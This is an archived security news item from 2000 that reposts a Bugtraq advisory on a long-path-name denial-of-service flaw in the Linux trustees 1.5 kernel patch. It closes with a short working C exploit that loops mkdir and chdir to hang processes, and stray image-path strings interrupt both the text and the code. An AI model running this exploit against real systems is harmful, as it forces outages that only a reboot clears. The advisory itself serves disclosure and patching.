Originally Published: Monday, 10 April 2000 Author: Alexander Reelsen
Published to: news_enhance_security/Security News Page: 1/1 - [Printable]

Linux trustees vulnerability found

[BT] An exploit for the recently announced Linux trustees, an advanced permission kernel patch, has been found and announced on bugtraq. This exploit only affects version 1.5 and ealier.

   Page 1 of 1

From: "Andrey E. Lerman" Subject: linux trustees 1.5 long path name vulnerability To: BUGTRAQ@SECURITYFOCUS.COM

Linux trustees is a kernel patch which provide Netware-like permissions to linux. It is not in kernel by default.

For more information see project's website at http://www.braysystems.com/linux/trustees.html

Problem description: When accessing a file or directory with a very long path the process hangs in an unkillable state. All other processes are SEGFAULTing when trying to access unkillable process' /proc entry. So system utilities ps, w, top, killall and the like are stoppping working. Except that, the system continues to function normally. The only solution is reboot.The only version tested is trustees 1.5 for linux 2.2.14. But it seems what other versions of linux trustees <1.6 are vulnerable.

I'mnot sure if this vulnerability is only local DoS. It may be possible to overwrite the process' structures in the kernel, causing privileges elevation. I haven't investigated that possibility yet, so I may be wrong. Servers with open ftp incoming directory, nfs or samba shares are at risk too.

Status: This problem is fixed in linux trustees 1.6, available for linux 2.2.14 and 2.3.99. Thanks to the author of the package, Vyacheslav Zavadsky for a quick response.

Exploit: #include <stdio.h>#include <sys/stat.h> #include <sys/types.h> #include <fcntl.h> #include <unistd.h>int main(void) {

while(1) { if(mkdir("aaaa",0777)<0) { perror("mkdir"); exit(1); }if(chdir("aaaa")<0) { perror("chdir"); exit(1); } }

return(0); } -- END --

   Page 1 of 1